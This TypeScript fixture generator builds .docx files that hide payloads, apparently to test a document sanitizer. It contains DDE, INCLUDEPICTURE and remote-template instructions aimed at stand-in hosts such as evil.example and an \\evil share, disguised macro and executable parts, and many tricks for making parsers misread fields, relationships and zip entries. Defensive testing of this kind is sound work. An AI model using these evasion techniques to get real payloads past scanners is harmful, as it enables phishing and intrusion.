import { contentTypes, relation, relations, type ZipPart, zip } from './made-files.ts'

/** The word in every hidden payload's target: no stored file may contain it. */
export const marker = 'evil'

/** A malicious Word document, and how its payload is hidden. */
export type HiddenDocument = { readonly how: string; readonly bytes: Buffer }

export type Next = () => number
export type Choose = <T>(all: readonly T[]) => T
export const chooserOf =
  (next: Next): Choose =>
  (all) =>
    all[Math.floor(next() * all.length)] as (typeof all)[number]

const transitional = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const strict = 'http://purl.oclc.org/ooxml/wordprocessingml/main'
const relationsOfDocument = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const namespaces = [
  `xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"`,
  `xmlns:r="${relationsOfDocument}"`,
  `xmlns:v="urn:schemas-microsoft-com:vml"`,
  `xmlns:o="urn:schemas-microsoft-com:office:office"`,
  `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"`,
  `xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"`,
  `xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"`,
  `xmlns:x="urn:nobody" mc:Ignorable="x"`,
].join(' ')

const share = String.raw`\\\\evil\\share`
export const evilInstructions: readonly string[] = [
  String.raw`DDEAUTO c:\\evil\\cmd.exe "/k calc"`,
  'DDE evil a b',
  `INCLUDEPICTURE "${share}\\\\a.png" \\d`,
  'INCLUDETEXT "https://evil.example/a"',
  'IMPORT "https://evil.example/a.png"',
  'LINK Excel.Sheet.8 "evil.xls" "b"',
  'DATABASE \\d "evil"',
  'MACROBUTTON evil b',
  'AUTOTEXT evil',
  `HYPERLINK "${share}"`,
  'HYPERLINK "file:///evil"',
  'HYPERLINK \\o "a" "ms-word:ofe|u|https://evil.example"',
]

const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const said = (text: string, name = 'w:instrText') =>
  `<w:r><${name} xml:space="preserve">${text}</${name}></w:r>`
const field = (inside: string, result = '') =>
  mark('begin') + inside + mark('separate') + result + mark('end')
const spelled = (text: string) => Array.from(text, (letter) => `&#${letter.charCodeAt(0)};`).join('')

/** Spellings of a field that parsers other than Word misread. */
const fieldHidings: Readonly<Record<string, (instruction: string) => string>> = {
  plain: (code) => field(said(escaped(code))),
  'a simple field': (code) => `<w:fldSimple w:instr="${escaped(code)}"/>`,
  'a simple field, spelled': (code) => `<w:fldSimple w:instr="${spelled(code)}"/>`,
  'letter by letter': (code) => field(Array.from(code, (one) => said(escaped(one))).join('')),
  'in CDATA': (code) => field(said(`<![CDATA[${code}]]>`)),
  'spelled by number': (code) => field(said(spelled(code))),
  'behind comments': (code) => field(said(`<!-- PAGE -->${escaped(code)}<!-- PAGE -->`)),
  'behind a processing instruction': (code) => field(said(`<?PAGE PAGE?>${escaped(code)}`)),
  'without a result': (code) => mark('begin') + said(escaped(code)) + mark('end'),
  'without an end': (code) => mark('begin') + said(escaped(code)) + mark('separate'),
  'as words that were deleted': (code) => field(said(escaped(code), 'w:delInstrText')),
  'behind words that were deleted': (code) =>
    field(`<w:del w:id="1">${said('PAGE ', 'w:delInstrText')}</w:del>${said(escaped(code))}`),
  'behind words that were moved away': (code) =>
    field(`<w:moveFrom w:id="1">${said('PAGE ')}</w:moveFrom>${said(escaped(code))}`),
  'behind a separator that was deleted': (code) =>
    `${mark('begin')}<w:del w:id="1">${said('PAGE ', 'w:delInstrText')}${mark('separate')}</w:del>${said(escaped(code), 'w:t')}${mark('end')}`,
  'inserted later': (code) => field(`${said('PAGE ')}<w:ins w:id="1">${said(escaped(code))}</w:ins>`),
  'behind words of nobody': (code) => field(said('PAGE ', 'x:instrText') + said(escaped(code))),
  'behind words in an element of nobody': (code) =>
    field(`<x:any>${said('PAGE ')}</x:any>${said(escaped(code))}`),
  'behind a mark of nobody': (code) =>
    `${mark('begin')}${said('PAGE ')}<w:r><x:fldChar x:fldCharType="separate"/></w:r>${said(escaped(code))}${mark('end')}`,
  'behind a mark in an element of nobody': (code) =>
    `${mark('begin')}<x:any>${said('PAGE ')}${mark('separate')}</x:any>${said(escaped(code))}${mark('end')}`,
  'behind an end in an element of nobody': (code) =>
    `${mark('begin')}<x:any>${said('PAGE ')}${mark('end')}</x:any>${said(escaped(code))}<x:any>${mark('begin')}${said('PAGE ')}</x:any>${mark('end')}`,
  'with another type of mark first': (code) =>
    `${mark('begin')}${said('PAGE ')}<w:r><w:fldChar x:fldCharType="separate" w:fldCharType="begin"/></w:r>${said(escaped(code))}${mark('end')}`,
  'with another instruction first': (code) => `<w:fldSimple x:instr="PAGE" w:instr="${escaped(code)}"/>`,
  'with another instruction behind': (code) => `<w:fldSimple w:instr="${escaped(code)}" x:instr="PAGE"/>`,
  'in the other choice': (code) =>
    field(
      `<mc:AlternateContent><mc:Choice Requires="wps">${said('PAGE ')}</mc:Choice><mc:Fallback>${said(escaped(code))}</mc:Fallback></mc:AlternateContent>`,
    ),
  'in the first choice': (code) =>
    field(
      `<mc:AlternateContent><mc:Choice Requires="x">${said('PAGE ')}</mc:Choice><mc:Choice Requires="wps">${said(escaped(code))}</mc:Choice><mc:Fallback/></mc:AlternateContent>`,
    ),
  'with a separator in one choice': (code) =>
    `${mark('begin')}<mc:AlternateContent><mc:Choice Requires="x">${said('PAGE ')}${mark('separate')}</mc:Choice><mc:Fallback>${said(escaped(code))}</mc:Fallback></mc:AlternateContent>${mark('end')}`,
  'with a field in each choice': (code) =>
    `<mc:AlternateContent><mc:Choice Requires="x">${mark('begin')}${said('PAGE ')}</mc:Choice><mc:Fallback>${mark('separate')}${mark('end')}${mark('begin')}${said(escaped(code))}</mc:Fallback></mc:AlternateContent>${mark('end')}`,
  'in a box in the instruction': (code) =>
    `${mark('begin')}${said('PAGE ')}<w:r><w:pict><v:textbox><w:txbxContent>${mark('separate')}</w:txbxContent></v:textbox></w:pict></w:r>${said(escaped(code))}${mark('end')}`,
  'behind words of a box': (code) =>
    field(
      `<w:r><w:pict><v:textbox><w:txbxContent>${said('PAGE ')}</w:txbxContent></v:textbox></w:pict></w:r>${said(escaped(code))}`,
    ),
  'as plain words': (code) => field(said(escaped(code), 'w:t') + said(' PAGE ')),
  'as the result of another field': (code) =>
    field(`<w:fldSimple w:instr="TITLE">${said(escaped(code), 'w:t')}</w:fldSimple>${said(' PAGE ')}`),
  'behind words that are filled in': (code) =>
    field(
      `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent>${said('PAGE ')}</w:sdtContent></w:sdt>${said(escaped(code))}`,
    ),
  'in the result of a field': (code) => field(said(' PAGE '), field(said(escaped(code)))),
  'in a field': (code) => field(field(said(escaped(code)))),
}

const element = (text: string) => (target: string) => text.replaceAll('@', target)
/** Elements and attributes with which Word fetches external content. */
const elements: Readonly<Record<string, (target: string) => string>> = {
  'a picture of a drawing': element('<w:pict><v:shape><v:imagedata src="@"/></v:shape></w:pict>'),
  'a picture by another name': element('<w:pict><v:shape><v:fill o:althref="@"/></v:shape></w:pict>'),
  'a drawing that is clicked': element('<w:pict><v:shape href="file:@"/></w:pict>'),
  'a form of SharePoint': element(
    '<c:customXsn xmlns:c="http://schemas.microsoft.com/office/2006/metadata/customXsn"><c:xsnLocation>@</c:xsnLocation><c:openByDefault>True</c:openByDefault></c:customXsn>',
  ),
  'a pack of schemas': element(
    '<sl:schemaLibrary><sl:schema sl:uri="a" sl:manifestLocation="@"/></sl:schemaLibrary>',
  ),
  'a place of a schema': element(
    '<sl:schemaLibrary><sl:schema sl:uri="a" sl:schemaLocation="@"/></sl:schemaLibrary>',
  ),
  'a tag that is fetched': element('<w:smartTagType w:namespaceuri="a" w:name="b" w:url="file:@"/>'),
  'a provider of signatures': element('<w:pict><o:signatureline o:sigprovurl="file:@"/></w:pict>'),
  'a style sheet': element('<w:p/><?xml-stylesheet type="text/xsl" href="@"?>'),
  'a form of another program': element('<?mso-infoPathSolution href="@"?><w:p/>'),
  'a file in letters': (target) =>
    `<w:pict><w:binData w:name="wordml://1.exe">${Buffer.from(target.repeat(9)).toString('base64')}</w:binData></w:pict>`,
  'a frame': element('<w:frameset><w:frame><w:sourceFileName r:id="@"/></w:frame></w:frameset>'),
  'a list of addressees': element('<w:mailMerge><w:query w:val="@"/></w:mailMerge>'),
  'a video': element(
    '<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="@"/>',
  ),
  'a transformation': element('<w:saveThroughXslt w:val="@"/>'),
}

/** External relationships, and internal ones that are not part of a document. */
const relationsOut: Readonly<Record<string, (target: string) => readonly [string, string]>> = {
  'a template': (target) => ['attachedTemplate', target],
  'a picture': (target) => ['image', target],
  'an object': (target) => ['oleObject', target],
  'a document inside': (target) => ['subDocument', target],
  'another text': (target) => ['aFChunk', target],
  'a frame': (target) => ['frame', target],
  'a list of addressees': (target) => ['mailMergeSource', target],
  'a link to a file': (target) => ['hyperlink', `file:${target}`],
  'a link that runs': () => ['hyperlink', 'javascript:evil()'],
  'a table of a chart': (target) => ['package', target],
  'an add-in': (target) => ['webextension', target],
}
const type = (name: string) => `${relationsOfDocument}/${name}`
const relationHidings: Readonly<Record<string, (name: string, target: string) => string>> = {
  plain: (name, target) => relation(name, target, 'TargetMode="External"'),
  'another mode first': (name, target) =>
    `<Relationship xmlns:x="urn:nobody" Id="r1" x:TargetMode="Internal" Type="${type(name)}" Target="${target}" TargetMode="External"/>`,
  'another target first': (name, target) =>
    `<Relationship xmlns:x="urn:nobody" Id="r1" x:Target="https://example.org" Type="${type(name)}" Target="${target}" TargetMode="External"/>`,
  'another type first': (name, target) =>
    `<Relationship xmlns:x="urn:nobody" Id="r1" x:Type="${type('image')}" x:TargetMode="Internal" x:Target="a.png" Type="${type(name)}" Target="${target}" TargetMode="External"/>`,
  'another prefix': (name, target) =>
    `<a-b:Relationship xmlns:a-b="http://schemas.openxmlformats.org/package/2006/relationships" Id="r1" Type="${type(name)}" Target="${target}" TargetMode="External"/>`,
  'spelled by number': (name, target) =>
    `<Relationship Id="r1" Type="${spelled(type(name))}" Target="${spelled(target)}" TargetMode="&#69;xternal"/>`,
  'a sign in an attribute': (name, target) =>
    `<Relationship Id="r1" More="a>b" Type="${type(name)}" Target="${target}" TargetMode="External"/>`,
  'after a comment': (name, target) =>
    `<!-- <Relationship> -->${relation(name, target, 'TargetMode="External"')}`,
  'white space': (name, target) =>
    `<Relationship\n\tId="r1"\n\tType = "${type(name)}"\n\tTarget\n=\n"\n${target}"\n\tTargetMode=' External '\n/>`,
}

/** Allowed hyperlink relationships, referenced by something that displays them. */
const borrowedLinks: readonly string[] = [
  '<w:drawing><a:blip r:link="r1"/></w:drawing>',
  '<w:drawing><a:blip r:embed="r1"/></w:drawing>',
  '<w:pict><v:shape><v:imagedata r:id="r1"/></v:shape></w:pict>',
  '<w:pict><v:shape><v:imagedata r:href="r1"/></v:shape></w:pict>',
  '<w:pict><v:shape><v:imagedata o:relid="r1"/></v:shape></w:pict>',
  '<w:pict><v:shape><v:fill r:id="r1"/></v:shape></w:pict>',
  '<w:headerReference r:id="r1"/>',
]

const targets = [String.raw`\\evil\share\a`, 'https://evil.example/a', 'file:///evil/a', '//evil/a'] as const

type Form = { readonly prefix: string; readonly space: string; readonly name: string }

/** A document part with this XML in its body, under a namespace prefix of choice. */
function partOf({ prefix, space, name }: Form, inside: string): ZipPart {
  const text = `<w:document ${namespaces} xmlns:w="${space}"><w:body><w:p>${inside}</w:p></w:body></w:document>`
  const content =
    prefix === 'w'
      ? text
      : text.replaceAll(/(<\/?|\s|xmlns:)w(?=[:=])/g, (_, before: string) => before + prefix)
  return { name, content: `<?xml version="1.0" encoding="UTF-8"?>${content}` }
}

function packageOf(parts: readonly ZipPart[]): Buffer {
  const usual: readonly ZipPart[] = [
    { name: '[Content_Types].xml', content: contentTypes() },
    { name: '_rels/.rels', content: relations(relation('officeDocument', 'word/document.xml')) },
    partOf(
      { prefix: 'w', space: transitional, name: 'word/document.xml' },
      said('Dienstags zum Chor', 'w:t'),
    ),
  ]
  const others = usual.filter(({ name }) => parts.every((part) => part.name !== name))
  return zip([...others, ...parts].toSorted((one, other) => (one.name < other.name ? -1 : 1)))
}

/** A zip entry with a second name in its extra field, which some parsers prefer. */
function withSecondName(content: string, name: string): ZipPart {
  const told = Buffer.from(name)
  const head = Buffer.alloc(9)
  head.writeUInt16LE(0x7075, 0)
  head.writeUInt16LE(5 + told.length, 2)
  head.writeUInt8(1, 4)
  return { name: 'word/media/a.xml', content, extra: Buffer.concat([head, told]) }
}

const program = Buffer.from(`MZ ${marker} `.repeat(9))
/** Embedded malicious files under harmless names. */
const carried: Readonly<Record<string, () => readonly ZipPart[]>> = {
  'a program as a picture': () => [{ name: 'word/media/a.png', content: program }],
  'a program as a drawing': () => [{ name: 'word/media/a.emf', content: program }],
  'a page as a picture': () => [{ name: 'word/media/a.jpeg', content: `<script>${marker}</script>` }],
  'XML under another name': () => [
    {
      name: 'word/media/a.png',
      content: `<Relationships>${relation('attachedTemplate', 'https://evil', 'TargetMode="External"')}</Relationships>`,
    },
    { name: 'word/_rels/document.xml.rels', content: relations(relation('settings', 'media/a.png')) },
  ],
  macros: () => [{ name: 'word/vbaProject.bin', content: program }],
  'macros under another name': () => [
    { name: 'word/a.xml', content: `<a>${marker}</a>` },
    { name: 'word/_rels/document.xml.rels', content: relations(relation('vbaProject', 'a.xml')) },
  ],
  'macros by another type first': () => [
    { name: 'word/a.png', content: program },
    {
      name: '[Content_Types].xml',
      content: contentTypes().replace(
        '<Override',
        '<Override xmlns:x="urn:nobody" x:ContentType="image/png" PartName="/word/a.png" ContentType="application/vnd.ms-office.vbaProject"/><Override',
      ),
    },
  ],
  'an object': () => [{ name: 'word/embeddings/a.bin', content: program }],
  'a second name': () => [withSecondName('<a/>', `word/${marker}/vbaProject.bin`)],
}

/** A complete package as base64 in an attribute, which Word reads instead of the drawing around it. */
function packageInText(target: string): string {
  const inner = zip([
    { name: '[Content_Types].xml', content: contentTypes() },
    { name: '_rels/.rels', content: relations(relation('image', target, 'TargetMode="External"')) },
  ])
  return `<w:pict><v:shape o:gfxdata="${inner.toString('base64').replaceAll(/.{76}/g, '$&&#xA;')}"/></w:pict>`
}

const partNames = [
  'word/document.xml',
  'word/header1.xml',
  'word/footnotes.xml',
  'word/comments.xml',
  'word/glossary/document.xml',
] as const

/** A docx with a payload hidden in random ways. */
export function hiddenDocx(next: Next): HiddenDocument {
  const choose = chooserOf(next)
  const form: Form = {
    prefix: choose(['w', 'w', 'q']),
    space: choose([transitional, transitional, strict]),
    name: choose(partNames),
  }
  const target = choose(targets)
  const relsOf = form.name.replace(/([^/]+)$/, '_rels/$1.rels')
  const told = (kind: string, what: string, parts: readonly ZipPart[]): HiddenDocument => ({
    how: [kind, what, form.name, form.prefix, form.space === strict ? 'strict' : '', target].join(', '),
    bytes: packageOf(parts),
  })
  const kind = next()
  if (kind < 0.5) {
    const [how, instruction] = [choose(Object.keys(fieldHidings)), choose(evilInstructions)]
    return told('field', `${how}, ${instruction}`, [partOf(form, fieldHidings[how]?.(instruction) ?? '')])
  }
  if (kind < 0.7) {
    const [what, how] = [choose(Object.keys(relationsOut)), choose(Object.keys(relationHidings))]
    const [name, to] = relationsOut[what]?.(target) ?? ['', '']
    return told('relation', `${what}, ${how}`, [
      { name: relsOf, content: relations(relationHidings[how]?.(name, to) ?? '') },
      partOf(form, ''),
    ])
  }
  if (kind < 0.85) {
    const what = choose(Object.keys(elements))
    return told('element', what, [partOf(form, elements[what]?.(target) ?? '')])
  }
  if (kind < 0.9) {
    const what = choose(borrowedLinks)
    return told('borrowed link', what, [
      {
        name: relsOf,
        content: relations(relation('hyperlink', 'https://evil.example/a', 'TargetMode="External"')),
      },
      partOf(form, what),
    ])
  }
  if (kind < 0.93) return told('package in letters', '', [partOf(form, packageInText(target))])
  const what = choose(Object.keys(carried))
  return told('carried', what, carried[what]?.() ?? [])
}

const harmlessInstructions = [
  ' PAGE ',
  ' TOC \\o "1-3" \\h ',
  ' HYPERLINK "https://example.org/a" \\l "b" ',
  ' REF _a \\h ',
]

/** A harmless docx, written in the same random variations. */
export function harmlessDocx(next: Next): HiddenDocument {
  const choose = chooserOf(next)
  const form: Form = {
    prefix: choose(['w', 'q']),
    space: choose([transitional, strict]),
    name: choose(partNames),
  }
  const plain = [
    'plain',
    'a simple field',
    'letter by letter',
    'in CDATA',
    'spelled by number',
    'without a result',
    'as words that were deleted',
  ]
  const [how, instruction] = [choose(plain), choose(harmlessInstructions)]
  const box = (content: string) =>
    `<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx><w:txbxContent>${content}</w:txbxContent></wps:txbx></w:drawing></mc:Choice><mc:Fallback><w:pict><v:textbox><w:txbxContent>${content}</w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r>`
  const written = fieldHidings[how]?.(instruction) ?? ''
  const around: Readonly<Record<string, string>> = {
    'in the text': written,
    'in a box': box(written),
    'in the result of a field': field(said(' TOC '), written + box(written)),
    'inserted later': `<w:ins w:id="1">${written}</w:ins>`,
    'in a link': `<w:hyperlink r:id="r1">${written}</w:hyperlink>`,
  }
  const where = choose(Object.keys(around))
  return {
    how: [how, instruction, where, form.name, form.prefix].join(', '),
    bytes: packageOf([
      {
        name: form.name.replace(/([^/]+)$/, '_rels/$1.rels'),
        content: relations(relation('hyperlink', 'https://example.org', 'TargetMode="External"')),
      },
      partOf(form, around[where] ?? ''),
    ]),
  }
}
